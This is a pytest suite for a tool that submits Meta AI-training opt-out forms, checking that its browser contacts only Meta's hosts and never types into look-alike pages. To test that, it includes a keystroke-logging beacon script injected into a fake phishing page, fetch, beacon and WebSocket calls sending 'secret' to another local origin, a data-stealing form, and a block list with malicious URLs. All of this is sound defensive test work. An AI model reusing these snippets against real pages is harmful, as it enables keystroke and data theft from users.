"""Network: the browser talks to Meta's addresses (or the --base-url origin) and to nothing else, and
the tool types the person's details only into pages on that origin.

- NetworkPolicy.allows, unit by unit (real use: the selectors' allowed_hosts, https only);
- a full `assist fill` run: every request the pages made (ASSIST_NETWORK_LOG) went to the --base-url
  origin, none was blocked; and, from Chromium's own NetLog, the browser itself opened no connection
  and sent no DNS query to any other host (no telemetry, no update checks, no password leak check),
  both in the person's browser and in the headless shell --headless runs take;
- a hostile page on the replica (scripts, images, frames, fetch, beacons, WebSockets, a redirect, a
  script navigation to another origin) reaches nothing: the tool's policy blocks it all;
- the form address redirects to a look-alike on another origin: nothing reaches it, exit 3 or 5;
  and a look-alike reached anyway (no network policy) gets nothing typed into it.

The "other origin" is a second local server (127.0.0.1, another port), so the conftest guard that
keeps test browsers on 127.0.0.1 still holds.
"""

from __future__ import annotations

import json
import stat
import threading
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from meta_optout_assist.browser import quiet as quiet_browser
from meta_optout_assist.browser.launch import choose as choose_browser
from meta_optout_assist.browser.network import NetworkPolicy
from meta_optout_assist.site import selectors as selector_data
from tests.support.posix import only_posix

EMAIL = "person@example.org"
REASON = "My posts include photos of my children; I do not want them used to train AI."
FORM_PATH = "/help/contact/712876720715583"


# -- a second origin: records every request; proxies the replica's pages as a look-alike ----------

BEACON = (b"<script>document.addEventListener('input', function (e) {"
          b" navigator.sendBeacon('/__typed__', (e.target.name || '?') + '=' + (e.target.value || ''));"
          b" }, true);</script>")


class Foreign:
    """A server on another port of 127.0.0.1 (another origin). `mode`: 'lookalike' serves the
    replica's pages (plus a script that reports every keystroke back to it); 'redirect' sends every
    request to `target`, keeping the path."""

    def __init__(self, mode: str, target: str) -> None:
        self.mode, self.target = mode, target
        self.requests: list[tuple[str, str, bytes]] = []
        foreign = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args) -> None:
                pass

            def do_GET(self) -> None:  # noqa: N802
                foreign.answer(self, b"")

            def do_POST(self) -> None:  # noqa: N802
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                foreign.answer(self, body)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"

    def answer(self, h: BaseHTTPRequestHandler, body: bytes) -> None:
        self.requests.append((h.command, h.path, body))
        if self.mode == "redirect":
            h.send_response(302)
            h.send_header("Location", self.target + h.path)
            h.send_header("Content-Length", "0")
            h.end_headers()
            return
        if h.command == "POST":
            payload = b"ok"
            ctype = "text/plain"
        else:
            try:
                with urllib.request.urlopen(self.target + h.path, timeout=10) as upstream:
                    payload, ctype = upstream.read(), upstream.headers.get("Content-Type", "text/html")
            except urllib.error.HTTPError as err:
                payload, ctype = err.read(), err.headers.get("Content-Type", "text/html")
            if ctype.startswith("text/html"):
                payload = payload.replace(b"</body>", BEACON + b"</body>")
        h.send_response(200)
        h.send_header("Content-Type", ctype)
        h.send_header("Content-Length", str(len(payload)))
        h.end_headers()
        h.wfile.write(payload)

    def typed(self) -> list[bytes]:
        return [body for method, _, body in self.requests if method == "POST"]

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def foreign_servers():
    made: list[Foreign] = []

    def make(mode: str, target: str) -> Foreign:
        made.append(Foreign(mode, target))
        return made[-1]

    yield make
    for server in made:
        server.stop()


def fill_args(base_url: str, *extra: str) -> list[str]:
    return ["fill", "--platform", "facebook", "--email", EMAIL, "--country", "DE", "--reason", REASON,
            "--base-url", base_url, "--headless", "--yes", "--wait-timeout", "60", "--page-timeout", "15",
            *extra]


# -- 1. the policy, unit by unit ---------------------------------------------------------------------

REAL = NetworkPolicy(tuple(selector_data.common_file().allowed_hosts))


ALLOWED = [
    "https://www.facebook.com/help/contact/712876720715583",
    "https://facebook.com/", "https://de-de.facebook.com/", "https://static.xx.fbcdn.net/rsrc.php/a.js",
    "https://www.instagram.com/accounts/login/", "https://scontent.cdninstagram.com/v/x.jpg",
    "wss://edge-chat.facebook.com/chat", "https://www.FACEBOOK.com/", "https://www.facebook.com:443/",
    "data:image/png;base64,AAAA", "blob:https://www.facebook.com/1-2-3", "about:blank",
]


@pytest.mark.parametrize("url", ALLOWED)
def test_real_use_allows_meta(url):
    assert REAL.allows(url)


REFUSED = [
    "http://www.facebook.com/",  # never in clear text
    "ws://edge-chat.facebook.com/chat",
    "https://facebook.com.evil.example/", "https://evilfacebook.com/", "https://facebook.co/",
    "https://www.facebook.com@evil.example/", "https://evil.example/?u=https://www.facebook.com/",
    "https://evil.example/#.facebook.com", "https://evil.example/facebook.com",
    "https://www.google-analytics.com/collect", "https://update.googleapis.com/service/update2/json",
    "https://passwordsleakcheck-pa.googleapis.com/v1/leaks:lookupSingle",
    "https://content-autofill.googleapis.com/v1/pages/x", "https://accounts.google.com/ListAccounts",
    "http://127.0.0.1:8000/", "file:///etc/passwd", "ftp://ftp.facebook.com/", "chrome://settings",
    "chrome-extension://abc/x.js", "https://[::1/", "", "javascript:alert(1)",
]


@pytest.mark.parametrize("url", REFUSED)
def test_real_use_blocks_everything_else(url):
    assert not REAL.allows(url)


LOCAL = NetworkPolicy(REAL.allowed_hosts, "http://127.0.0.1:8000")


def test_with_base_url_only_that_origin():
    policy = LOCAL
    assert policy.allows("http://127.0.0.1:8000/help/contact/1?x=1")
    assert policy.allows("ws://127.0.0.1:8000/socket")
    for url in ("http://127.0.0.1:8001/", "https://127.0.0.1:8000/", "http://localhost:8000/",
                "https://www.facebook.com/", "http://127.0.0.1/", "http://127.0.0.2:8000/"):
        assert not policy.allows(url), url
    assert NetworkPolicy((), "http://example.org:80").allows("http://example.org/")


LOCAL_URLS = ["http://127.0.0.1:8000/help/contact/1?x=1", "ws://127.0.0.1:8000/socket", "http://127.0.0.1:8000",
              "http://127.0.0.1:8001/", "https://127.0.0.1:8000/", "http://localhost:8000/",
              "http://127.0.0.1:80000/", "http://127.0.0.1:8000@evil.example/", "http://127.0.0.1/"]


@pytest.mark.parametrize("url", [
    *(u for u in [*ALLOWED, *REFUSED, *LOCAL_URLS] if "[::1/" not in u),  # a browser sends no broken URL
    "http://127.0.0.1.evil.example/", "http://127.0.0.10/", "data:text/html,hi", "about:blank",
    "blob:http://127.0.0.1:8000/x", "HTTP://127.0.0.1:8000/"])
def test_the_test_guard_routes_every_address_that_leaves_the_machine(url):
    """conftest's guard for the tests' own browser contexts sees only what its pattern matches."""
    from tests.support.fixtures import _NOT_LOCAL, _leaves_the_machine

    assert bool(_NOT_LOCAL.search(url)) == _leaves_the_machine(url)


@pytest.mark.parametrize(("policy", "url"), [
    *((REAL, u) for u in [*ALLOWED, *REFUSED, *LOCAL_URLS]),
    *((LOCAL, u) for u in [*ALLOWED, *REFUSED, *LOCAL_URLS]),
    (NetworkPolicy((), "http://example.org:80"), "http://example.org/"),
    (NetworkPolicy((), "https://[::1]:8443"), "https://[::1]:8443/x"),
    (NetworkPolicy((), "https://[::1]:8443"), "https://[::1]:8444/x"),
])
def test_block_pattern_agrees_with_the_policy(policy, url):
    """The driver blocks by network.block_pattern without asking the policy: the two must agree."""
    from meta_optout_assist.browser.network import block_pattern

    assert bool(block_pattern(policy).search(url)) == (not policy.allows(url)), url


@pytest.mark.parametrize(("url", "allowed"), [
    ("https://www.facebook.com/help/contact/712876720715583", True), ("https://de-de.facebook.com/", True),
    ("https://static.xx.fbcdn.net/rsrc.php/a.js", True), ("https://www.instagram.com/accounts/login/", True),
    ("https://evilfacebook.com/", False), ("https://facebook.com.evil.example/", False),
    ("http://www.facebook.com/", False), ("https://evil.example/?u=https://www.facebook.com/", False),
])
def test_block_pattern_as_the_browser_matches_it(context, page, url, allowed):
    """The pattern is matched by Playwright's driver (JavaScript regex), not by Python: in a real
    browser, Meta's addresses pass the tool's route (here to a stand-in page, nothing leaves the
    machine) and others are refused."""
    from playwright.sync_api import Error as PlaywrightError

    from meta_optout_assist.browser import network

    context.route("**/*", lambda route: route.fulfill(status=200, content_type="text/html", body="stand-in"))
    network.install(context, NetworkPolicy(REAL.allowed_hosts))  # added later: asked first
    if allowed:
        page.goto(url)
        assert page.content().count("stand-in") == 1
    else:
        with pytest.raises(PlaywrightError, match="ERR_BLOCKED_BY_CLIENT"):
            page.goto(url)


_HOSTS = st.sampled_from(["facebook.com", "www.facebook.com", "evilfacebook.com", "facebook.com.evil.example",
                          "static.xx.fbcdn.net", "127.0.0.1", "localhost", "instagram.com", "a_b.facebook.com",
                          "FACEBOOK.COM", "facebook.co", "user@facebook.com", "facebook.com@evil.example", ""])


@settings(max_examples=300, deadline=None)
@given(scheme=st.sampled_from(["https", "http", "wss", "ws", "data", "blob", "about", "file", "ftp", "javascript"]),
       host=_HOSTS, port=st.sampled_from(["", ":443", ":80", ":8000", ":8001", ":"]),
       rest=st.sampled_from(["", "/", "/help?x=https://www.facebook.com/", "#.facebook.com", "?a", "/a@b"]),
       local=st.booleans())
def test_block_pattern_agrees_with_the_policy_on_any_address(scheme, host, port, rest, local):
    from meta_optout_assist.browser.network import block_pattern

    policy = LOCAL if local else REAL
    url = f"{scheme}://{host}{port}{rest}"
    assert bool(block_pattern(policy).search(url)) == (not policy.allows(url)), url


def test_the_browser_vendors_hosts_are_never_meta_hosts():
    """quiet_browser makes the vendors' hosts unresolvable: that must never catch a Meta host."""
    meta = set(REAL.allowed_hosts)
    for vendor in quiet_browser.VENDOR_HOSTS:
        assert not any(m == vendor or m.endswith("." + vendor) or vendor.endswith("." + m) for m in meta)


# -- 2. a full run: what the pages asked for, and what the browser itself did ----------------------


def _netlog_wrapper(tmp_path: Path, real_browser: str) -> tuple[Path, Path]:
    """A --browser that is the real Chromium writing its NetLog (every request, DNS lookup and
    connection of the browser's network stack, including the browser's own services)."""
    netlog = tmp_path / "netlog.json"
    wrapper = tmp_path / "chromium-with-netlog"
    wrapper.write_text(f'#!/bin/sh\nexec "{real_browser}" --log-net-log="{netlog}" "$@"\n')
    wrapper.chmod(wrapper.stat().st_mode | stat.S_IXUSR)
    return wrapper, netlog


def _read_netlog(path: Path) -> tuple[list[str], list[str], int, list[str]]:
    """From a Chromium NetLog: URLs requested, hosts asked of the resolver, DNS queries actually
    sent, and addresses connected to."""
    text = path.read_text(encoding="utf-8")
    try:
        log = json.loads(text)
    except ValueError:  # not finalised (the browser was killed): close the events list
        log = json.loads(text.rstrip().rstrip(",") + "]}")
    names = {v: k for k, v in log["constants"]["logEventTypes"].items()}
    urls, resolved, connects = [], [], []
    dns_queries = 0
    for event in log["events"]:
        name, params = names.get(event["type"]), event.get("params") or {}
        if name == "URL_REQUEST_START_JOB" and "url" in params:
            urls.append(params["url"])
        elif name == "HOST_RESOLVER_MANAGER_REQUEST" and "host" in params:
            resolved.append(params["host"])
        elif name == "HOST_RESOLVER_DNS_TASK" and event.get("phase") == 1:  # a query went out
            dns_queries += 1
        elif name == "TCP_CONNECT_ATTEMPT" and "address" in params:
            connects.append(params["address"])
    return urls, resolved, dns_queries, connects


@pytest.mark.slow
@only_posix  # the NetLog wrapper is a shell script
@pytest.mark.parametrize("which", ["window", "headless"])
def test_full_run_talks_only_to_the_base_url(site, assist, tmp_path, foreign_servers, person_browser,
                                             playwright, which):
    """In the person's browser, and in the one --headless runs take (a headless shell if any)."""
    real_browser = person_browser
    if which == "headless":
        real_browser = choose_browser(playwright, None, headless=True).executable or ""
        if real_browser in ("", person_browser):
            pytest.skip("--headless runs take the same browser as a window here")
    site.configure(simulate_person=True, person_delay_ms=0)
    wrapper, netlog = _netlog_wrapper(tmp_path, real_browser)
    log = tmp_path / "requests.log"
    no_proxy = {k: "" for k in ("http_proxy", "https_proxy", "all_proxy", "HTTP_PROXY", "HTTPS_PROXY",
                                "ALL_PROXY")}
    run = assist(*fill_args(site.base_url, "--browser", str(wrapper)),
                 env={"ASSIST_NETWORK_LOG": str(log), **no_proxy})
    assert run.code == 0, run.text

    # What the pages asked for: all of it on the --base-url origin, nothing blocked.
    lines = [line.split(" ", 1) for line in log.read_text().splitlines()]
    assert lines, "ASSIST_NETWORK_LOG recorded nothing"
    blocked = [url for verdict, url in lines if verdict != "allow"]
    assert blocked == [], f"requests blocked during a normal run: {blocked}"
    origin = urlsplit(site.base_url).netloc
    assert all(urlsplit(url).netloc == origin for _, url in lines)
    assert any(url.endswith(FORM_PATH) for _, url in lines)
    assert any("/ajax/help/contact/submit" in url for _, url in lines), "the form was posted"

    # What the browser did on the network, its own services included (Chromium's NetLog).
    urls, resolved, dns_queries, connects = _read_netlog(netlog)
    assert any(url.endswith(FORM_PATH) for url in urls), "the NetLog saw the run"
    tried = sorted({u.split("?")[0] for u in urls if urlsplit(u).netloc != origin})
    elsewhere = [a for a in connects if not a.startswith("127.0.0.1:")]
    assert elsewhere == [], f"the browser connected to other hosts: {elsewhere}; requests: {tried}"
    assert dns_queries == 0, (f"the browser sent {dns_queries} DNS queries, for "
                              f"{sorted(set(resolved) - {'https://~notfound'})}; requests: {tried}")


# -- 3. a hostile page on the replica reaches nothing else -----------------------------------------

HOSTILE = """<!doctype html><html><head>
<script src="{f}/track.js"></script><link rel="stylesheet" href="{f}/style.css">
<link rel="prefetch" href="{f}/prefetch"><link rel="preconnect" href="{f}">
</head><body><h1>Replica page gone bad</h1>
<img src="{f}/pixel.png"><img src="http://example.com/pixel.gif">
<iframe src="{f}/frame"></iframe>
<form id="steal" method="post" action="{f}/collect"><input name="email" value="x@example.org"></form>
</body></html>"""


def _wait_until_blocked(page, policy: NetworkPolicy, parts: list[str]) -> None:
    """Until each address part shows in the policy's blocked list (no fixed sleep: at most ~10 s
    of short polls, usually none)."""
    for _ in range(200):
        if all(any(part in url for url in policy.blocked) for part in parts):
            return
        page.wait_for_timeout(50)


def test_a_hostile_page_reaches_no_other_host(site, context, page, foreign_servers):
    from playwright.sync_api import Error as PlaywrightError

    from meta_optout_assist.browser import network

    foreign = foreign_servers("lookalike", site.base_url)
    policy = NetworkPolicy(REAL.allowed_hosts, site.base_url)
    network.install(context, policy)
    hostile = site.base_url + "/__hostile__"
    context.route(hostile, lambda route: route.fulfill(
        status=200, content_type="text/html", body=HOSTILE.format(f=foreign.url)))
    context.route(site.base_url + "/__redirect__", lambda route: route.fulfill(
        status=302, headers={"Location": foreign.url + "/redirected"}))

    # Subresources, frames, fetch, beacons, WebSockets.
    page.goto(hostile, wait_until="load")
    results = page.evaluate("""async (f) => {
        const out = {};
        try { await fetch(f + '/fetch', {method: 'POST', body: 'secret', mode: 'no-cors'}); out.fetch = 'sent'; }
        catch (e) { out.fetch = 'blocked'; }
        out.beacon = navigator.sendBeacon(f + '/beacon', 'secret');
        const ws = new WebSocket(f.replace('http', 'ws') + '/socket');  // never connected (see network.py)
        ws.onopen = () => ws.send('secret');
        return out;
    }""", foreign.url)
    assert results["fetch"] == "blocked", results

    # Navigations away: typed, redirected from the replica's origin, posted by a form, set by a
    # script. Each is refused; each script-driven one gets a page of its own (they end in an error
    # page that would cut the next navigation short).
    with pytest.raises(PlaywrightError, match="ERR_BLOCKED_BY_CLIENT"):
        page.goto(foreign.url + "/elsewhere")
    with pytest.raises(PlaywrightError, match="ERR_BLOCKED_BY_CLIENT"):
        page.goto(site.base_url + "/__redirect__")
    for script, path in (("document.getElementById('steal').submit()", "/collect"),
                         (f"location.href = {json.dumps(foreign.url + '/scripted')}", "/scripted")):
        other = context.new_page()
        other.goto(hostile, wait_until="load")
        other.evaluate(script)
        _wait_until_blocked(other, policy, [path])
        other.close()

    expected = ["/track.js", "/style.css", "/pixel.png", "/frame", "/fetch", "/beacon", "/socket", "/elsewhere",
                "/collect", "/scripted", "/redirected", "example.com/pixel.gif"]
    _wait_until_blocked(page, policy, expected)  # the beacon and the frame may still be on their way
    missing = [part for part in expected if not any(part in url for url in policy.blocked)]
    assert missing == [], f"never reached the policy: {missing}; blocked: {policy.blocked}"
    assert foreign.requests == [], f"the other origin was reached: {foreign.requests}"


# -- 4. typing only where it belongs ---------------------------------------------------------------


@pytest.mark.slow
def test_form_address_redirecting_to_a_lookalike_gets_nothing(site, assist, data_dir, foreign_servers):
    """--base-url points at a server whose form address redirects to another origin that shows the
    replica's own form: the tool must not follow, must not type, and must say so (exit 3 or 5)."""
    site.configure(simulate_person=True, person_delay_ms=0, require_login=False, cookie_banner="none")
    lookalike = foreign_servers("lookalike", site.base_url)
    redirector = foreign_servers("redirect", lookalike.url)
    run = assist(*fill_args(redirector.url, "--page-timeout", "15"))
    assert run.code in (3, 5), run.text
    assert "Traceback" not in run.text
    assert lookalike.requests == [], f"the look-alike was reached: {lookalike.requests}"
    assert site.submissions == []
    said = " ".join(run.err.split())
    assert "not Facebook's" in said or "not a Facebook address" in said, run.err


def test_a_lookalike_form_gets_nothing_typed(site, page, foreign_servers):
    """Even when a page on another origin is open (no network policy here at all), the form page
    object refuses to type into it: nothing reaches the look-alike, every field stays empty."""
    from meta_optout_assist.errors import PageNotUnderstood
    from meta_optout_assist.pages.form import ContactForm
    from tests.support.flow_helpers import make_flow

    site.configure(require_login=False, cookie_banner="none")
    lookalike = foreign_servers("lookalike", site.base_url)
    page.goto(lookalike.url + FORM_PATH, wait_until="load")
    flow = make_flow(page, site, first_name="Anna", last_name="Muster")
    assert ContactForm().marker(flow).count() > 0, "the look-alike must look like the form"
    with pytest.raises(PageNotUnderstood, match="not a Facebook address"):
        ContactForm().act(flow)
    typed = page.evaluate("() => [...document.querySelectorAll('input, textarea')]"
                          ".filter(e => !['hidden', 'submit', 'radio', 'checkbox'].includes(e.type))"
                          ".map(e => e.value).filter(v => v)")
    # A round trip to the look-alike: any beacon the page sent before this has arrived by now.
    urllib.request.urlopen(lookalike.url + "/__sync__", timeout=10).read()
    assert typed == [] and lookalike.typed() == [], (typed, lookalike.typed())
    assert site.submissions == []


